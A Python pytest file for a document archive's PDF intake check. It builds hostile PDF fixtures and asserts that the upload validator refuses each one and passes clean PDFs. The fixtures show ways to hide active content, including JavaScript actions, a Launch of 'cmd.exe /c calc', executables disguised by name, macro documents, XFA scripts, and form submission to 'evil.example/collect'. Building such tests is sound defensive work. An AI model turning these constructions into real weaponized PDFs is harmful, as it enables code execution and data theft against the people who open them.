"""Hostile PDFs of our own making, each hiding its active part somewhere
the old top-level check did not look (inline dictionaries, page and field
/AA, annotations, action chains, name trees, XFA, file specifications
without /Type, object streams): every one is refused at intake with a
problem naming `file`; clean PDFs (plain text, a scan, bookmarks and web
links, a harmless attachment, the generator's own PDF/A) pass."""
from __future__ import annotations

import io
import time
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest

from services.archive import inspection
from shared.problems import Problem
from tests.archive import samples

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String
JS = lambda code="app.alert(1)": Dictionary(S=Name.JavaScript, JS=String(code))          # noqa: E731


def base() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(samples.simple_pdf(2)))


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def embed(pdf: pikepdf.Pdf, name: str, data: bytes, typed: bool = False, compress: bool = False) -> None:
    """An embedded file through the name tree, without the optional /Type
    entries unless `typed` (readers open it all the same)."""
    stream = pdf.make_stream(zlib.compress(data) if compress else data)
    if compress:
        stream.Filter = Name.FlateDecode
    spec = Dictionary(F=String(name), UF=String(name), EF=Dictionary(F=stream))
    if typed:
        stream.Type, spec.Type = Name.EmbeddedFile, Name.Filespec
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), pdf.make_indirect(spec)])))


def link(pdf: pikepdf.Pdf, action, page: int = 0, indirect: bool = True) -> None:
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    pdf.pages[page].obj.Annots = Array([pdf.make_indirect(annot) if indirect else annot])


def inline_open_action_js():
    pdf = base()
    pdf.Root.OpenAction = JS()                         # direct, not a separate object
    return saved(pdf)


def page_aa_launch_cmd():
    pdf = base()
    pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"),
                                                                             P=String("/c calc"))))
    return saved(pdf)


def link_with_js():
    pdf = base()
    link(pdf, JS("this.submitForm('http://x')"), page=1)
    return saved(pdf)


def embedded_exe_without_type():
    pdf = base()
    embed(pdf, "photo.jpg", b"MZ\x90\x00\x03" + b"\x00" * 200)      # an innocent name, a PE inside
    return saved(pdf)


def compressed_exe_in_object_stream():
    pdf = base()
    embed(pdf, "readme.txt", b"MZ\x90\x00" + b"\x00" * 5000, compress=True)
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def bat_with_trailing_space():
    pdf = base()
    embed(pdf, "run.bat ", b"echo hello\r\n", typed=True)
    return saved(pdf)


def full_width_bat_name():
    pdf = base()
    embed(pdf, "ｒｕｎ．ＢＡＴ.", b"echo hello\r\n")
    return saved(pdf)


def zip_carrying_exe():
    pdf = base()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("docs/readme.txt", "hello")
        archive.writestr("docs/setup.exe", b"MZ" + b"\x00" * 100)
    embed(pdf, "资料.zip", buffer.getvalue(), compress=True)
    return saved(pdf)


def office_file_with_macros():
    pdf = base()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    embed(pdf, "说明.docx", buffer.getvalue())
    return saved(pdf)


def xfa_with_script():
    pdf = base()
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
                          b'<event activity="initialize"><script contentType="application/x-javascript">'
                          b'app.alert(1)</script></event></subform></template></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return saved(pdf)


def remote_goto():
    pdf = base()
    link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])))
    return saved(pdf)


def submit_form_widget():
    pdf = base()
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"),
                                          Rect=Array([0, 0, 50, 20]), P=pdf.pages[0].obj,
                                          A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))))
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return saved(pdf)


def field_aa_keystroke_js():
    pdf = base()
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), Kids=Array()))
    kid = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 50, 20]),
                                       Parent=field, AA=Dictionary(K=JS("event.rc=true"))))
    field.Kids.append(kid)
    pdf.pages[0].obj.Annots = Array([kid])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def javascript_name_tree():
    pdf = base()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([pdf.make_indirect(Dictionary(
        Names=Array([String("init"), pdf.make_indirect(JS())]), Limits=Array([String("init"), String("init")])))])))
    return saved(pdf)


def action_chain_via_next():
    """A harmless GoTo, then a web link, then (third in the chain, indirect) JavaScript."""
    pdf = base()
    third = pdf.make_indirect(JS())
    second = Dictionary(S=Name.URI, URI=String("https://www.anshan.gov.cn/"), Next=third)
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([second]))
    return saved(pdf)


def outline_item_with_js():
    pdf = base()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("第一页"), Parent=outlines, A=pdf.make_indirect(JS())))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def javascript_uri():
    pdf = base()
    link(pdf, Dictionary(S=Name.URI, URI=String("  JavaScript:app.alert(1)")), indirect=False)
    return saved(pdf)


def rich_media_annotation():
    pdf = base()
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])
    return saved(pdf)


def import_data_on_page_close():
    pdf = base()
    pdf.pages[0].obj.AA = Dictionary(C=Dictionary(S=Name.ImportData, F=String("data.fdf")))
    return saved(pdf)


def rendition_action():
    pdf = base()
    pdf.Root.OpenAction = Dictionary(S=Name.Rendition, OP=0)
    return saved(pdf)


def goto_embedded():
    pdf = base()
    link(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf"))))
    return saved(pdf)


HOSTILE = [
    (inline_open_action_js, "JavaScript"), (page_aa_launch_cmd, "启动"), (link_with_js, "JavaScript"),
    (embedded_exe_without_type, "可执行"), (compressed_exe_in_object_stream, "可执行"),
    (bat_with_trailing_space, "可执行"), (full_width_bat_name, "可执行"), (zip_carrying_exe, "可执行"),
    (office_file_with_macros, "宏"), (xfa_with_script, "XFA"), (remote_goto, "其他文件"),
    (submit_form_widget, "提交表单"), (field_aa_keystroke_js, "JavaScript"), (javascript_name_tree, "JavaScript"),
    (action_chain_via_next, "JavaScript"), (outline_item_with_js, "JavaScript"), (javascript_uri, "URI"),
    (rich_media_annotation, "富媒体"), (import_data_on_page_close, "导入数据"), (rendition_action, "媒体播放"),
    (goto_embedded, "嵌入文件"),
]


def refusal(data: bytes, tmp_path: Path, name: str = "evidence.pdf") -> Problem:
    path = samples.write(tmp_path, "upload.pdf", data)
    with pytest.raises(Problem) as caught:
        inspection.inspect(path, len(data), name, "application/pdf")
    return caught.value


@pytest.mark.parametrize("make,word", HOSTILE, ids=[m.__name__ for m, _ in HOSTILE])
def test_hostile_pdf_is_refused_naming_what_is_active(make, word, tmp_path):
    problem = refusal(make(), tmp_path)
    assert problem.status == 422 and problem.errors[0].path == "file"
    assert "主动内容" in problem.errors[0].message and word in problem.errors[0].message, problem.errors[0].message


def test_the_security_check_finds_what_intake_refuses():
    """The four-properties check and intake share the walk: what one refuses the other reports."""
    for make, word in HOSTILE:
        with pikepdf.open(io.BytesIO(make())) as pdf:
            assert any(word in name for name in inspection.active_content(pdf)), make.__name__


def nested(depth: int) -> bytes:
    pdf = base()
    value = Array([1])
    for _ in range(depth):
        value = Array([value])
    pdf.Root.Deep = value
    return saved(pdf)


def test_nesting_past_the_bound_is_refused_not_half_checked(tmp_path):
    problem = refusal(nested(inspection.MAX_PDF_NESTING + 5), tmp_path)
    assert problem.errors[0].path == "file" and "过于复杂" in problem.errors[0].message
    path = samples.write(tmp_path, "ok.pdf", nested(20))
    assert inspection.inspect(path, path.stat().st_size, "ok.pdf", "application/pdf").pages == 2


def test_object_count_past_the_bound_is_refused():
    pdf = base()
    pdf.Root.Many = Array([pdf.make_indirect(Dictionary(N=n)) for n in range(300)])
    with pytest.raises(inspection.PdfTooComplex):
        inspection.walk_pdf(pikepdf.open(io.BytesIO(saved(pdf))), max_nodes=200)


def test_a_flate_bomb_attachment_is_looked_into_within_bounded_memory(tmp_path):
    """512 MB of zeros in a 0.5 MB stream: read up to the bound, not inflated whole."""
    import resource
    pdf = base()
    deflate = zlib.compressobj(9)
    compressed = b"".join(deflate.compress(bytes(16 * 1024 * 1024)) for _ in range(32)) + deflate.flush()
    stream = pdf.make_stream(compressed)
    stream.Filter = Name.FlateDecode
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("zeros.dat"), Dictionary(
        Type=Name.Filespec, F=String("zeros.dat"), EF=Dictionary(F=stream))])))
    data = saved(pdf)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    path = samples.write(tmp_path, "zeros.pdf", data)
    assert inspection.inspect(path, len(data), "zeros.pdf", "application/pdf").pages == 2
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert time.monotonic() - started < 5 and grown_mb < 200, grown_mb


def clean_pdfs() -> list[tuple[str, bytes]]:
    pdf = base()
    link(pdf, Dictionary(S=Name.URI, URI=String("https://www.anshan.gov.cn/zwgk/")))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    first = pdf.make_indirect(Dictionary(Title=String("一"), Parent=outlines,
                                         A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))))
    second = pdf.make_indirect(Dictionary(Title=String("二"), Parent=outlines, Prev=first,
                                          Dest=Array([pdf.pages[1].obj, Name.Fit])))
    first.Next = second
    outlines.First, outlines.Last, outlines.Count = first, second, 2
    pdf.Root.Outlines = outlines
    with_links = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    attached = base()
    embed(attached, "现场记录.csv", "时间,地点\n2026-03-01,鞍山\n".encode(), typed=True, compress=True)
    scan, _ = inspection.image_to_pdf(samples.write(Path(__import__("tempfile").mkdtemp()), "s.jpg", samples.scan_jpeg()))
    return [("plain", samples.simple_pdf(3)), ("links and bookmarks", with_links),
            ("harmless attachment", saved(attached)), ("scan", scan)]


@pytest.mark.parametrize("label,data", clean_pdfs(), ids=lambda v: v if isinstance(v, str) else "")
def test_clean_pdfs_pass(label, data, tmp_path):
    path = samples.write(tmp_path, "clean.pdf", data)
    assert inspection.inspect(path, len(data), "clean.pdf", "application/pdf").pages >= 1


def test_the_generators_pdfa_documents_pass(license_documents, generator, tmp_path):
    from tests.conftest import TOKENS, http_call
    for document in license_documents:
        status, _, data = http_call(generator.url, "GET", f"/v1/documents/{document['id']}/pdf?wait=30", None,
                                    TOKENS["case-system"])
        assert status == 200 and data.startswith(b"%PDF")
        path = samples.write(tmp_path, "generated.pdf", data)
        assert inspection.inspect(path, len(data), "generated.pdf", "application/pdf").pages >= 1
        with pikepdf.open(path) as pdf:                    # and they keep the PDF/A rules they claim
            report = inspection.pdfa_conformance(pdf)
        assert report.claim and report.conforms and "output_intent" in report.rules, (report.claim, report.problems)
